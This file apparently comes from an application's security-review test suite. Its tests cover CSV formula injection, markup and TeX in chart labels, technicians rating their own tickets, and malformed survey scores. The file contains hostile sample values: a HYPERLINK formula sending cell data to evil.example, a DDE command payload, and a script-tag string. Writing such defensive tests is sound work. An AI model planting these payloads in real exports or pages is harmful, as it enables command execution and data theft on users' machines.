@@ -1,0 +1,206 @@
+"""Issue 14 (surveys, KPI reports, pilots) reviewed as an attacker, on the server: a spreadsheet
+user opening the CSV export, version labels and team names that matplotlib reads as TeX, a
+technician rating their own help, odd scores on the public survey page and in the API.
+
+Each finding is a test marked ``xfail(strict=True)`` with the hole as its reason: it fails
+while the hole is open and turns the suite red once it is fixed (then drop the marker). The
+other tests are defences that held, kept because each can fail.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import uuid
+import xml.etree.ElementTree as ET  # noqa: S405 -- parses our own chart output, not input
+from datetime import UTC, datetime
+
+import httpx
+import pytest
+from fastapi import FastAPI
+
+from auxilio.server.reporting import charts, monthly, service
+from auxilio.server.reporting.schemas import (
+    Comparison,
+    KpiFilters,
+    KpiReport,
+    KpiRow,
+    KpiValue,
+    Period,
+    SliceBy,
+    VersionSide,
+)
+from auxilio.server.surveys import service as surveys
+from tests.factories import make_ticket
+from tests.server.surveys.helpers import Scene, make_scene
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
+           "-2+3", "@SUM(A1:A9)", "=1+1"]  # fmt: skip
+
+
+def _value(kpi: str, value: float | None, n: int = 1) -> KpiValue:
+    return KpiValue(kpi=kpi, definition=f"{kpi}@v1", unit="percent", value=value, n=n)
+
+
+def _report(keys: list[str]) -> KpiReport:
+    """A report sliced by team whose team names (and the technician-style labels) are hostile."""
+    def row(key: str | None, label: str | None) -> KpiRow:
+        return KpiRow(key=key, label=label, kpis={"csat": _value("csat", 80.0, 5),
+                                                  "backlog": _value("backlog", None, 0)})
+
+    return KpiReport(
+        organisation_id=uuid.uuid4(),
+        period=Period(start=datetime(2026, 11, 1, tzinfo=UTC),
+                      end=datetime(2026, 12, 1, tzinfo=UTC)),
+        filters=KpiFilters(), slice_by=SliceBy.TEAM, generated_at=datetime(2026, 12, 1, tzinfo=UTC),
+        overall=row(None, None), rows=[row(key, key) for key in sorted(keys)],
+    )  # fmt: skip
+
+
+# -- the CSV export ---------------------------------------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="the KPI CSV export writes slice values (team, category, "
+                   "device group, policy version, a person's name) as they are: a cell starting "
+                   "with = + - @ runs as a formula when the file is opened in a spreadsheet")
+def test_the_csv_export_neutralises_formulas_and_still_reads_back() -> None:
+    report = _report(HOSTILE)
+    text = service.kpi_report_csv(report)
+    for line in csv.DictReader(io.StringIO(text)):
+        for column in ("key", "label", "note"):
+            assert not line[column].startswith(FORMULA_STARTS), (column, line[column])
+    overall, rows = service.kpi_report_from_csv(text)
+    assert [(r.key, r.label) for r in rows] == [(r.key, r.label) for r in report.rows]
+    assert overall.kpis == report.overall.kpis
+
+
+def test_the_csv_export_of_plain_names_reads_back_unchanged() -> None:
+    """Held (and must keep holding once formulas are neutralised): ordinary names, including
+    ones with commas, quotes and newlines, come back as they went in."""
+    report = _report(["Desk, north", 'The "A" team', "two\nlines", "unknown"])
+    overall, rows = service.kpi_report_from_csv(service.kpi_report_csv(report))
+    assert [(r.key, r.label) for r in rows] == [(r.key, r.label) for r in report.rows]
+    assert [r.kpis for r in rows] == [r.kpis for r in report.rows]
+
+
+# -- charts and the monthly report ------------------------------------------------------------
+
+
+def _side(version: str) -> VersionSide:
+    return VersionSide(policy_version=version, period=None,
+                       row=KpiRow(key=version, kpis={"csat": _value("csat", 50.0, 2)}))
+
+
+def _comparison_svg(a: str, b: str = "v2:abcdef012345") -> bytes:
+    result = Comparison(device_group=None, a=_side(a), b=_side(b), deltas={})
+    return charts.svg(lambda: charts.comparison(result), f"Policy {a} against {b}")
+
+
+def test_a_version_label_with_markup_stays_text_in_the_svg() -> None:
+    """Held: /console/kpis/charts/comparison.svg?a=<script>... puts the query's text in the
+    title and legend; matplotlib escapes it, so the SVG (a document a browser runs when opened
+    directly) gains no element, and the site's CSP (script-src 'self') would block an inline
+    one anyway."""
+    hostile = '<script>alert(1)</script>"&\''
+    body = _comparison_svg(hostile)
+    tree = ET.fromstring(body)  # noqa: S314 -- our own output
+    tags = {element.tag.rsplit("}", 1)[-1] for element in tree.iter()}
+    assert "script" not in tags and "foreignObject" not in tags
+    assert b"<script" not in body
+    texts = "".join(tree.itertext())
+    assert hostile in texts
+
+
+@pytest.mark.parametrize("text", ["$x^$", "cost $5 to $10"])
+def test_dollar_signs_in_user_text_are_drawn_as_written(text: str) -> None:
+    """Was a 500: matplotlib read text between two $ as TeX, so a compared version label from
+    the query (comparison.svg?a=$x^$) or a team name raised ValueError in the chart or the
+    monthly report, and "$5 to $10" was drawn as maths. Fixed in charts.py
+    (``text.parse_math: False`` in the charts' style)."""
+    tree = ET.fromstring(_comparison_svg(text))  # noqa: S314 -- our own output
+    # The legend's entry is the label alone, one text element, as written.
+    assert text in ["".join(e.itertext()) for e in tree.iter() if e.tag.endswith("}text")]
+    # The monthly report's team table (the route draws it the same way, in charts.pdf).
+    pdf = charts.pdf([lambda: monthly.slice_page(_report([text]), "By team", "Team")], title="t")
+    assert pdf.startswith(b"%PDF")
+
+
+# -- surveys ----------------------------------------------------------------------------------
+
+
+async def _scene_on_own_ticket(app: FastAPI) -> Scene:
+    """A technician who opened a ticket for themselves (staff may: they are its requester) and
+    holds a session on it."""
+    scene = await make_scene(app)
+    scene.ticket_id = await make_ticket(app, scene.technician)
+    scene.requester = scene.technician
+    return scene
+
+
+@pytest.mark.xfail(strict=True, reason="a technician who opens a ticket for themselves and "
+                   "helps on it is sent the survey and may rate their own help: their CSAT "
+                   "rises with every such ticket (a survey is made although requester and "
+                   "technician are the same person)")
+async def test_a_technician_cannot_rate_their_own_help(
+    app: FastAPI, client: httpx.AsyncClient
+) -> None:
+    scene = await _scene_on_own_ticket(app)
+    await scene.end(await scene.session())
+    # Either fix holds: no survey is made, or the technician's answer is refused.
+    for survey in await scene.surveys():
+        assert survey.requester_id == survey.technician_id == scene.technician.user.id
+        answer = await client.post(f"/api/v1/surveys/mine/{survey.id}/answer",
+                                   headers=scene.technician.headers, json={"score": 5})
+        assert answer.status_code >= 400, answer.text
+    assert [s.state for s in await scene.surveys() if s.state == "answered"] == []
+
+
+async def _link(app: FastAPI) -> tuple[Scene, str]:
+    scene = await make_scene(app)
+    await scene.end(await scene.session())
+    return scene, surveys.link_token(app.state.signing_key, await scene.only_survey())
+
+
+@pytest.mark.parametrize("score", ["5", 5.0, True, None, [5], {"v": 5}])
+async def test_the_api_takes_only_a_json_integer_as_the_score(
+    app: FastAPI, client: httpx.AsyncClient, score: object
+) -> None:
+    """Held: no coercion of "5", 5.0 or true into a score; the survey stays open."""
+    scene, token = await _link(app)
+    response = await client.post("/api/v1/surveys/answer", json={"token": token, "score": score})
+    assert response.status_code == 422, response.text
+    assert (await scene.only_survey()).state == "sent"
+
+
+def _csrf(html: str) -> str:
+    found = re.search(r'<meta name="csrf-token" content="([^"]+)">', html)
+    assert found
+    return found.group(1)
+
+
+@pytest.mark.parametrize("score", ["\N{SUPERSCRIPT TWO}", "--3", "\N{CIRCLED DIGIT ONE}", "- 3"])
+async def test_the_survey_page_refuses_a_score_that_is_not_a_number(
+    app: FastAPI, client: httpx.AsyncClient, score: str
+) -> None:
+    """Was a 500: ``str.isdigit`` is true for "²" and for "--3" once the dashes are stripped,
+    and ``int`` refuses both. Fixed in survey_page.py (``isdecimal`` after one minus sign)."""
+    scene, token = await _link(app)
+    page = await client.get(f"/survey/{token}")
+    sent = await client.post(f"/survey/{token}", data={
+        "csrf_token": _csrf(page.text), "action": "answer", "score": score})
+    assert sent.status_code == 422, sent.text
+    assert (await scene.only_survey()).state == "sent"
+
+
+async def test_the_survey_page_reads_a_score_in_other_decimal_digits(
+    app: FastAPI, client: httpx.AsyncClient
+) -> None:
+    """Held: an Arabic-Indic 4 is the score 4, as ``int`` reads it."""
+    scene, token = await _link(app)
+    page = await client.get(f"/survey/{token}")
+    sent = await client.post(f"/survey/{token}", data={
+        "csrf_token": _csrf(page.text), "action": "answer", "score": "\N{ARABIC-INDIC DIGIT FOUR}"})
+    assert sent.status_code == 200, sent.text
+    assert (await scene.only_survey()).score == 4
